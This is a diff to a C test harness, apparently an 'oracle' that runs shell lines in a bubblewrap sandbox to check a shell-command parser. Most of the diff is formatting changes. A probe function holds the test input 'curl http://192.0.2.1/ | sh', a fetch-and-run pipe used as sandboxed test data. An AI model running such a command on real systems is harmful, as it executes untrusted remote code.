@@ -37,6 +37,7 @@ typedef struct opts {
 } opts;
 
 /* Programs every run links, besides the names found on the lines. */
+/* clang-format off */
 static const char *const base_names[] = {
 	"rm", "git", "curl", "wget", "sudo", "env", "xargs", "find", "sh",
 	"bash", "dash", "zsh", "ksh", "ash", "mksh", "python", "python3",
@@ -46,6 +47,7 @@ static const char *const base_names[] = {
 	"base64", "true", "false", "test", "[", "awk", "sed", "grep", "make",
 	NULL,
 };
+/* clang-format on */
 
 static void link_name(const opts *o, const char *name, size_t len)
 {
@@ -118,25 +120,52 @@ static char *run_batch(const opts *o, const char *batch, size_t *outlen)
 	A("--die-with-parent");
 	A("--new-session");
 	A("--as-pid-1");
-	A("--tmpfs"); A("/");
-	A("--ro-bind"); A(bin); A("/usr/bin");
-	A("--symlink"); A("usr/bin"); A("/bin");
-	A("--symlink"); A("usr/bin"); A("/sbin");
-	A("--symlink"); A("bin"); A("/usr/sbin");
-	A("--symlink"); A("../bin"); A("/usr/local/bin");
-	A("--ro-bind"); A(o->bash); A("/oracle/bash");
-	A("--ro-bind"); A(o->stub); A("/oracle/stub");
-	A("--ro-bind"); A(o->driver); A("/oracle/driver");
-	A("--ro-bind"); A(envsh); A("/oracle/env.sh");
+	A("--tmpfs");
+	A("/");
+	A("--ro-bind");
+	A(bin);
+	A("/usr/bin");
+	A("--symlink");
+	A("usr/bin");
+	A("/bin");
+	A("--symlink");
+	A("usr/bin");
+	A("/sbin");
+	A("--symlink");
+	A("bin");
+	A("/usr/sbin");
+	A("--symlink");
+	A("../bin");
+	A("/usr/local/bin");
+	A("--ro-bind");
+	A(o->bash);
+	A("/oracle/bash");
+	A("--ro-bind");
+	A(o->stub);
+	A("/oracle/stub");
+	A("--ro-bind");
+	A(o->driver);
+	A("/oracle/driver");
+	A("--ro-bind");
+	A(envsh);
+	A("/oracle/env.sh");
 	for (size_t i = 0; i < o->nlibs; i++) {
-		A("--ro-bind"); A(o->libs[i]); A(o->libs[i]);
+		A("--ro-bind");
+		A(o->libs[i]);
+		A(o->libs[i]);
 	}
-	A("--tmpfs"); A("/oracle/log");
-	A("--tmpfs"); A("/tmp");
-	A("--tmpfs"); A("/work");
-	A("--proc"); A("/proc");
-	A("--dev"); A("/dev");
-	A("--chdir"); A("/work");
+	A("--tmpfs");
+	A("/oracle/log");
+	A("--tmpfs");
+	A("/tmp");
+	A("--tmpfs");
+	A("/work");
+	A("--proc");
+	A("/proc");
+	A("--dev");
+	A("/dev");
+	A("--chdir");
+	A("/work");
 	A("--clearenv");
 	A("/oracle/driver");
 	A(NULL);
@@ -244,7 +273,7 @@ static void compare(const opts *o, locus_shell_parser *p, const char *line,
 		size_t n = locus_shell_result_count(r);
 		for (size_t i = 0; i < n && !found; i++) {
 			const locus_shell_command *c =
-				locus_shell_result_command(r, i);
+			    locus_shell_result_command(r, i);
 			if (strlen(c->name) == nlen &&
 			    !memcmp(c->name, rec, nlen))
 				found = 1;
@@ -303,14 +332,16 @@ static int run_lines(const opts *o, locus_shell_parser *p, char **lines,
 		char *end = strstr(body, "@@END\n");
 		if (!end || idx >= nlines)
 			break;
-		compare(o, p, lines[idx], body, (size_t)(end - body), status, s);
+		compare(o, p, lines[idx], body, (size_t)(end - body), status,
+		        s);
 		seen++;
 		cur = end + 6;
 	}
 	free(out);
 	if (seen != nlines) {
-		fprintf(stderr, "oracle: the sandbox reported %zu of %zu lines\n",
-		        seen, nlines);
+		fprintf(stderr,
+		        "oracle: the sandbox reported %zu of %zu lines\n", seen,
+		        nlines);
 		return -1;
 	}
 	return 0;
@@ -330,9 +361,8 @@ static int setup(opts *o)
 		link_name(o, base_names[i], strlen(base_names[i]));
 	snprintf(path, sizeof path, "%s/env.sh", o->tmp);
 	/* The catch-all: a name with no stub is logged under that name. */
-	return write_file(path,
-	                  "command_not_found_handle() { exec -a \"$1\" "
-	                  "/oracle/stub \"${@:2}\"; }\n");
+	return write_file(path, "command_not_found_handle() { exec -a \"$1\" "
+	                        "/oracle/stub \"${@:2}\"; }\n");
 }
 
 static void cleanup(const opts *o)
@@ -353,8 +383,9 @@ static int probe(const opts *o, locus_shell_parser *p)
 	                 "curl http://192.0.2.1/ | sh"};
 	stats s = {0};
 	if (run_lines(o, p, lines, 2, &s) != 0 || s.ran_lines != 2) {
-		fprintf(stderr, "oracle: FAIL: the bubblewrap sandbox does not "
-		                "work here (bwrap %s): nothing can be checked\n",
+		fprintf(stderr,
+		        "oracle: FAIL: the bubblewrap sandbox does not "
+		        "work here (bwrap %s): nothing can be checked\n",
 		        o->bwrap);
 		return -1;
 	}
@@ -368,8 +399,8 @@ static double now_s(void)
 	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
-static const char *self_dir_file(const char *argv0, const char *name,
-                                 char *buf, size_t cap)
+static const char *self_dir_file(const char *argv0, const char *name, char *buf,
+                                 size_t cap)
 {
 	const char *sl = strrchr(argv0, '/');
 	if (!sl)
@@ -411,10 +442,11 @@ int main(int argc, char **argv)
 		else if (!strcmp(a, "--verbose"))
 			o.verbose = 1;
 		else if (a[0] == '-') {
-			fprintf(stderr, "usage: oracle [--generate N] [--seed S] "
-			                "[--batch N] [--stub P] [--driver P] "
-			                "[--bwrap P] [--bash P] [--verbose] "
-			                "CORPUS_PATH...\n");
+			fprintf(stderr,
+			        "usage: oracle [--generate N] [--seed S] "
+			        "[--batch N] [--stub P] [--driver P] "
+			        "[--bwrap P] [--bash P] [--verbose] "
+			        "CORPUS_PATH...\n");
 			return 2;
 		} else if (npaths < 64)
 			paths[npaths++] = a;
@@ -431,8 +463,9 @@ int main(int argc, char **argv)
 	o.bash = real_bash;
 	if (access(o.bwrap, X_OK) != 0 || access(o.stub, R_OK) != 0 ||
 	    access(o.driver, R_OK) != 0 || find_libs(&o) != 0) {
-		fprintf(stderr, "oracle: FAIL: bwrap (%s), the stub (%s), the "
-		                "driver (%s) or bash's libraries are missing\n",
+		fprintf(stderr,
+		        "oracle: FAIL: bwrap (%s), the stub (%s), the "
+		        "driver (%s) or bash's libraries are missing\n",
 		        o.bwrap, o.stub, o.driver);
 		return 3;
 	}
@@ -468,7 +501,8 @@ int main(int argc, char **argv)
 		while (nl < batch && made < total) {
 			if (generate) {
 				uint64_t cs = gen_mix(seed ^ gen_mix(k++));
-				const gen_line *b = &c.lines[gen_mix(cs ^ 0x5eed) % c.n];
+				const gen_line *b =
+				    &c.lines[gen_mix(cs ^ 0x5eed) % c.n];
 				made++;
 				if (b->fork_bomb)
 					continue;
